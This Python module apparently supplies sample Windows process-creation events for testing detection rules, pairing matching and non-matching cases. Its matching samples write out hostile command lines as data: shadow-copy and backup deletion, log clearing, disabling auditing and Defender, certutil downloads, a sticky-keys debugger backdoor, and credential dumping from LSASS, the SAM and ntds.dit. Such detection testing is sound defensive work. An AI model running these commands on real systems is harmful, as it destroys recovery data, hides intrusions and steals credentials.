"""Sample events of the family process."""

from catalog.samples import Samples
from catalog.samples.windows_event import windows_event


def started(program: str, **values: str) -> str:
    return windows_event(4688, {"NewProcessName": program, **values})


def tool(name: str, **values: str) -> str:
    return started(rf"C:\Windows\System32\{name}", **values)


def not_started(name: str) -> dict[str, str]:
    """Return records that name a tool and are not its start."""
    path = rf"C:\Windows\System32\{name}"
    return {
        "its child": tool("conhost.exe", ParentProcessName=path),
        "a shell that names it": tool("cmd.exe", CommandLine=f"cmd /c {path}"),
        "a shell that holds the tag": tool(
            "cmd.exe", CommandLine=f"<Data Name='NewProcessName'>{path}</Data>"
        ),
        "its end": windows_event(4689, {"ProcessName": path}),
        "a program whose name goes on": tool(f"{name}.exe"),
        "the words in the rendering": windows_event(4688, rendering=f"New Process Name: {path}"),
    }


SAMPLES = {
    "process-created": Samples(
        matching={
            "a shell": tool("cmd.exe"),
            "with quotes in the command line": tool("cmd.exe", CommandLine="cmd /c \"echo '<a>' & dir\""),
        },
        not_matching={
            "ended": windows_event(4689, {"ProcessId": "0x4688"}),
            "a token assigned": windows_event(4696, record_id=4688),
        },
    ),
    "recovery-tool-started": Samples(
        matching={
            "shadow copies": tool("vssadmin.exe", CommandLine="vssadmin delete shadows /all /quiet"),
            "shadow copies, by a 32-bit program": started(r"C:\Windows\SysWOW64\vssadmin.exe"),
            "backups": tool("wbadmin.exe", CommandLine="wbadmin delete catalog -quiet"),
            "shadow copies from a script": tool("diskshadow.exe"),
            "recovery at boot": tool("bcdedit.exe", CommandLine="bcdedit /set {default} recoveryenabled no"),
        },
        not_matching=not_started("vssadmin.exe"),
    ),
    "event-log-tool-started": Samples(
        matching={
            "a log cleared": tool("wevtutil.exe", CommandLine="wevtutil cl Security"),
            "a log cleared by a 32-bit program": started(r"C:\Windows\SysWOW64\wevtutil.exe"),
        },
        not_matching=not_started("wevtutil.exe"),
    ),
    "directory-database-tool-started": Samples(
        matching={
            "a copy made": tool(
                "ntdsutil.exe", CommandLine='ntdsutil "ac i ntds" "ifm" "create full c:\\temp" q q'
            )
        },
        not_matching=not_started("ntdsutil.exe"),
    ),
    "remote-execution-service-started": Samples(
        matching={
            "by the service manager": started(r"C:\Windows\PSEXESVC.exe"),
            "by the service manager, of an older version": started(r"C:\Windows\PSEXESVC.EXE"),
        },
        not_matching={
            "its child": tool("cmd.exe", ParentProcessName=r"C:\Windows\PSEXESVC.exe"),
            "a path that it begins": started(r"C:\Windows\PSEXESVC32\agent.exe"),
            "PsExec on the other side": started(r"C:\Tools\PsExec.exe"),
        },
    ),
    "domain-discovery-tool-started": Samples(
        matching={
            "trusts": tool("nltest.exe", CommandLine="nltest /domain_trusts"),
            "accounts": tool("dsquery.exe", CommandLine="dsquery user -limit 0"),
        },
        not_matching=not_started("nltest.exe"),
    ),
    "service-name-tool-started": Samples(
        matching={"names listed": tool("setspn.exe", CommandLine="setspn -T example -Q */*")},
        not_matching=not_started("setspn.exe"),
    ),
    "session-takeover-tool-started": Samples(
        matching={
            "by a service": tool(
                "tscon.exe", CommandLine="tscon 2 /dest:rdp-tcp#5", SubjectUserSid="S-1-5-18"
            )
        },
        not_matching=not_started("tscon.exe"),
    ),
    "transfer-tool-started": Samples(
        matching={
            "a file fetched": tool(
                "bitsadmin.exe", CommandLine="bitsadmin /transfer a https://example.com/a.exe a.exe"
            ),
            "the 32-bit one": started(r"C:\Windows\SysWOW64\bitsadmin.exe"),
        },
        not_matching=not_started("bitsadmin.exe"),
    ),
    "packet-capture-started": Samples(
        matching={"started": tool("PktMon.exe", CommandLine="pktmon start --capture")},
        not_matching=not_started("PktMon.exe"),
    ),
    "audit-policy-weakened-by-command": Samples(
        matching={
            "turned off": tool("auditpol.exe", CommandLine="auditpol /set /category:* /success:disable"),
            "cleared": tool("auditpol.exe", CommandLine="auditpol /clear /y"),
            "a user's removed": tool("auditpol.exe", CommandLine="auditpol /remove /allusers"),
        },
        not_matching={
            "read": tool("auditpol.exe", CommandLine="auditpol /get /category:*"),
            "another program": tool("ipconfig.exe", CommandLine="ipconfig /flushdns disable"),
            "by SYSTEM": tool("auditpol.exe", CommandLine="auditpol /clear /y", SubjectUserSid="S-1-5-18"),
        },
    ),
    "file-downloaded-with-system-tool": Samples(
        matching={
            "fetched": tool(
                "certutil.exe", CommandLine="certutil -urlcache -split -f https://example.com/a.txt"
            ),
            "fetched, in capitals": tool(
                "certutil.exe", CommandLine="certutil -URLCache -f https://example.com/a.txt"
            ),
            "decoded": tool("certutil.exe", CommandLine="certutil -decode a.txt a.exe"),
            "encoded": tool("certutil.exe", CommandLine="certutil -encode a.exe a.txt"),
            "exported": tool("certutil.exe", CommandLine="certutil -exportPFX a.pfx"),
        },
        not_matching={
            "a store listed": tool("certutil.exe", CommandLine="certutil -store my"),
            "another program": tool("curl.exe", CommandLine="curl -o a https://example.com/urlcache"),
        },
    ),
    "protection-disabled-by-command": Samples(
        matching={
            "with a space": tool("sc.exe", CommandLine="sc config WinDefend start= disabled"),
            "without one": tool("sc.exe", CommandLine="sc config WinDefend start=disabled"),
        },
        not_matching={
            "to start by itself": tool("sc.exe", CommandLine="sc config WinDefend start= auto"),
            "another program": tool("reg.exe", CommandLine="reg add HKLM\\X /v start= disabled"),
        },
    ),
    "service-command-line-set": Samples(
        matching={
            "created": tool("sc.exe", CommandLine="sc create helper binPath= C:\\Temp\\a.exe"),
            "in lower case": tool("sc.exe", CommandLine="sc config helper binpath= C:\\Temp\\a.exe"),
        },
        not_matching={
            "queried": tool("sc.exe", CommandLine="sc query helper"),
            "another program": tool("powershell.exe", CommandLine="New-Service helper binPath="),
        },
    ),
    "accessibility-program-replaced": Samples(
        matching={
            "sethc": tool(
                "reg.exe",
                CommandLine='reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /d cmd.exe',
            ),
        },
        not_matching={
            "another key": tool("reg.exe", CommandLine="reg add HKLM\\SOFTWARE\\Example /v a /d b"),
            "another program": tool("notepad.exe", CommandLine="notepad Image File Execution Options.txt"),
        },
    ),
    "scheduled-task-created-by-command": Samples(
        matching={
            "in lower case": tool(
                "schtasks.exe", CommandLine="schtasks /create /s web-02 /tn a /tr a.exe /sc daily"
            ),
            "as documented": tool("schtasks.exe", CommandLine="schtasks /Create /tn a /tr a.exe /sc daily"),
        },
        not_matching={
            "queried": tool("schtasks.exe", CommandLine="schtasks /query"),
            "another program": tool("mkdir.exe", CommandLine="mkdir /create"),
            "by SYSTEM": tool(
                "schtasks.exe", CommandLine="schtasks /create /tn a", SubjectUserSid="S-1-5-18"
            ),
        },
    ),
    "port-forwarded-by-command": Samples(
        matching={
            "a port": tool(
                "netsh.exe",
                CommandLine="netsh interface portproxy add v4tov4 listenport=8443 connectport=3389 connectaddress=192.0.2.4",
            ),
            "in short": tool("netsh.exe", CommandLine="netsh i p a v l=8443 c=192.0.2.4"),
            "a helper": tool("netsh.exe", CommandLine="netsh add helper C:\\Temp\\a.dll"),
        },
        not_matching={
            "the firewall": tool("netsh.exe", CommandLine="netsh advfirewall show allprofiles"),
            "another program": tool("findstr.exe", CommandLine="findstr portproxy a.txt"),
        },
    ),
    "domain-queried-with-net": Samples(
        matching={
            "groups": tool("net1.exe", CommandLine='net1 group "Domain Admins" /domain'),
            "in capitals": tool("net1.exe", CommandLine="NET1 USER SATO /DOMAIN"),
        },
        not_matching={
            "a local group": tool("net1.exe", CommandLine="net1 localgroup Administrators"),
            "another program": tool("xcopy.exe", CommandLine="xcopy /domain"),
        },
    ),
    "administrative-share-connected-by-command": Samples(
        matching={
            share: tool("net.exe", CommandLine=rf"net use x: \\web-02\{share}")
            for share in ("c$", "C$", "admin$", "ADMIN$")
        },
        not_matching={
            "another share": tool("net.exe", CommandLine=r"net use x: \\web-02\finance"),
            "another program": tool("robocopy.exe", CommandLine=r"robocopy \\web-02\c$ x:"),
        },
    ),
    "hidden-powershell-started": Samples(
        matching={
            "in short": tool(
                "WindowsPowerShell\\v1.0\\powershell.exe", CommandLine="powershell -nop -w hidden -c iex"
            ),
            "in full": tool(
                "WindowsPowerShell\\v1.0\\powershell.exe",
                CommandLine="powershell -WindowStyle Hidden -File a.ps1",
            ),
            "in full, in lower case": tool(
                "WindowsPowerShell\\v1.0\\powershell.exe",
                CommandLine="powershell -windowstyle hidden -file a.ps1",
            ),
        },
        not_matching={
            "in a window": tool(
                "WindowsPowerShell\\v1.0\\powershell.exe", CommandLine="powershell -File a.ps1"
            ),
            "another program": tool("mshta.exe", CommandLine="mshta -w hidden"),
        },
    ),
    "shadow-copies-deleted": Samples(
        matching={
            "in lower case": tool("vssadmin.exe", CommandLine="vssadmin delete shadows /all /quiet"),
            "with a capital": tool("vssadmin.exe", CommandLine="vssadmin Delete Shadows /All"),
            "over WMI": tool("vssadmin.exe", CommandLine="wmic shadowcopy delete"),
            "the catalog of backups": tool("vssadmin.exe", CommandLine="wbadmin delete catalog -quiet"),
        },
        not_matching={
            "listed": tool("vssadmin.exe", CommandLine="vssadmin list shadows"),
            "another deletion": tool("cmd.exe", CommandLine="cmd /c delete a"),
        },
    ),
    "event-log-cleared-by-command": Samples(
        matching={
            "over WMI": tool("wbem\\WMIC.exe", CommandLine='wmic nteventlog where filename="security" cl'),
            "in PowerShell": tool("wbem\\WMIC.exe", CommandLine="powershell Clear-EventLog Security"),
            "by its method": tool(
                "wbem\\WMIC.exe",
                CommandLine="powershell (Get-WmiObject Win32_NTEventlogFile).ClearEventLog()",
            ),
        },
        not_matching={
            "listed": tool("wbem\\WMIC.exe", CommandLine="wmic nteventlog list"),
            "read": tool("cmd.exe", CommandLine="powershell Get-EventLog Security"),
        },
    ),
    "remote-command-output-redirected": Samples(
        matching={
            "of wmiexec": tool(
                "cmd.exe", CommandLine="cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1619425227.89 2>&1"
            ),
            "of smbexec": tool(
                "cmd.exe", CommandLine="cmd.exe /Q /c echo dir ^> \\\\127.0.0.1\\C$\\__output 2^>^&1"
            ),
        },
        not_matching={
            "to another host": tool("cmd.exe", CommandLine="cmd /c dir > \\\\192.0.2.4\\ADMIN$\\__a"),
            "to a file": tool("cmd.exe", CommandLine="cmd /c dir > C:\\__output"),
        },
    ),
    "credential-dump-command-started": Samples(
        matching={
            "of LSASS": tool(
                "rundll32.exe",
                CommandLine="rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 700 a.dmp full",
            ),
            "of the SAM": tool("rundll32.exe", CommandLine="reg save hklm\\sam a.hiv"),
            "of the SAM, in capitals": tool("rundll32.exe", CommandLine="reg save HKLM\\SAM a.hiv"),
            "of the directory": tool(
                "rundll32.exe", CommandLine="esentutl /y C:\\Windows\\NTDS\\ntds.dit /d a.dit"
            ),
            "with mimikatz": tool("rundll32.exe", CommandLine="a.exe sekurlsa::logonpasswords exit"),
        },
        not_matching={
            "another hive": tool("reg.exe", CommandLine="reg save HKLM\\SOFTWARE a.hiv"),
            "a library": tool("rundll32.exe", CommandLine="rundll32 shell32.dll,Control_RunDLL"),
        },
    ),
}
